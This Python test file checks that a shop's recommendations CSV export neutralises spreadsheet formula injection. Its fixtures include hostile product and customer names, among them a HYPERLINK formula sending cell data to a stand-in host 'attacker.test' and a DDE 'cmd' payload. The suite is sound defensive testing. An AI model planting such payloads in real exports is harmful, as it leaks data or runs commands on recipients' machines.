"""The recommendations export for an e-mail campaign cannot run spreadsheet formulas.

A product title or customer name that starts with = + - @, a tab, a carriage return
or a NUL character is run as a formula by spreadsheet programs (OWASP "CSV
Injection"; OWASP ASVS 5.0 requirement 1.2.10 adds NUL). The tests import such
data through the importers and add what an import trims (leading tabs and line
breaks) to the shop directly. They read the exported file with Python's CSV
reader twice: split at `,`, and split at `;` as spreadsheets in many European
locales do, where a `;` inside a title must not start a formula cell either.
"""

from __future__ import annotations

import csv

import pytest

from engine.importers import import_file
from engine.recommend.service import EXPORT_HEADER, export_recommendations
from engine.store import open_store

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")

# SKU -> (title, title as exported). Each product is bought, so each one is
# recommended to someone.
HOSTILE_TITLES = {
    "MUG-1": (
        '=HYPERLINK("http://attacker.test/?x="&A1,"Blue mug")',
        '\'=HYPERLINK("http://attacker.test/?x="&A1,"Blue mug")',
    ),
    "MUG-2": ("+SUM(1,2)", "'+SUM(1,2)"),
    "MUG-3": ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    "MUG-4": ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    "MUG-5": ("Glaze mug;=1+1", "Glaze mug;'=1+1"),
    "MUG-6": ("Bowl,=1+1", "Bowl,'=1+1"),
    "MUG-7": ('Vase "tall";"@SUM(1)', 'Vase "tall";"\'@SUM(1)'),
    "MUG-8": ("Plain plate, 2 pieces", "Plain plate, 2 pieces"),
    "MUG-9": ("Cup\n=1+1", "Cup\n'=1+1"),
    # A tab or line break also separates cells, so what follows it is escaped too.
    "TAB-1": ("Tray", "'\t'=1+1"),
    "TAB-2": ("Tray", "'\r'=1+1"),
    "TAB-3": ("Tray", "'\0=1+1"),
}
# Leading characters the importers trim, written into the shop directly.
STORED_TITLES = {
    "TAB-1": "\t=1+1",
    "TAB-2": "\r=1+1",
    "TAB-3": "\0=1+1",
}
CUSTOMERS = [
    ("=1+1", "=HYPERLINK(\"http://attacker.test\")", "=x@example.test"),
    ("+44-100", "+Anna", "+anna@example.test"),
    ("-5", "-Ben", "-ben@example.test"),
    ("@home", "@Carla", "@carla@example.test"),
]


def write_files(folder):
    products = folder / "products.csv"
    with open(products, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["sku", "name", "price"])
        for sku, (title, _) in HOSTILE_TITLES.items():
            writer.writerow([sku, title, "4.50"])
    orders = folder / "orders.csv"
    with open(orders, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        header = ["order_id", "customer_id", "customer_name", "email", "sku", "qty"]
        writer.writerow(header)
        skus = list(HOSTILE_TITLES)
        for number, (customer, name, email) in enumerate(CUSTOMERS):
            for sku in skus[number :: len(CUSTOMERS)]:
                writer.writerow([f"A-{number}", customer, name, email, sku, "1"])
    return products, orders


@pytest.fixture
def hostile_shop(tmp_path):
    shop = tmp_path / "shop" / "shop.db"
    products, orders = write_files(tmp_path)
    with open_store(shop, create=True) as store:
        import_file(store, products)
        import_file(store, orders)
        with store.transaction() as conn:
            for sku, title in STORED_TITLES.items():
                conn.execute(
                    "UPDATE products SET title = ? WHERE sku = ?", (title, sku)
                )
            conn.execute(
                "INSERT INTO customers (customer_id, name, email, source, created_at) "
                "VALUES (?, ?, ?, 'test', '2024-01-01')",
                ("\tC-9", "\r=1+1", "\0@x.test"),
            )
    return shop


def exported_rows(path, delimiter):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def test_export_escapes_formula_cells(hostile_shop, tmp_path):
    destination = tmp_path / "campaign.csv"

    summary = export_recommendations(hostile_shop, destination, n=10)

    rows = exported_rows(destination, ",")
    assert rows[0] == EXPORT_HEADER
    assert summary.customers == len(CUSTOMERS) + 1
    titles = {row[4]: row[5] for row in rows[1:]}
    assert titles == {sku: exported for sku, (_, exported) in HOSTILE_TITLES.items()}
    customers = {row[0] for row in rows[1:]}
    assert customers == {"'=1+1", "'+44-100", "'-5", "'@home", "'\tC-9"}
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (row, cell)


def test_export_cells_safe_with_semicolon_separator(hostile_shop, tmp_path):
    destination = tmp_path / "campaign.csv"

    export_recommendations(hostile_shop, destination, n=10)

    rows = exported_rows(destination, ";")
    assert len(rows) > len(CUSTOMERS)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (row, cell)


def test_export_keeps_numbers_as_numbers(hostile_shop, tmp_path):
    destination = tmp_path / "campaign.csv"

    export_recommendations(hostile_shop, destination, n=10)

    # QUOTE_NONNUMERIC reads unquoted cells as floats and quoted ones as text, so
    # rank and score must be unquoted numbers and every other cell quoted text.
    with open(destination, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))
    for row in rows[1:]:
        assert isinstance(row[3], float), row
        assert isinstance(row[6], float), row
        texts = row[:3] + row[4:6] + row[7:]
        assert all(isinstance(cell, str) for cell in texts), row
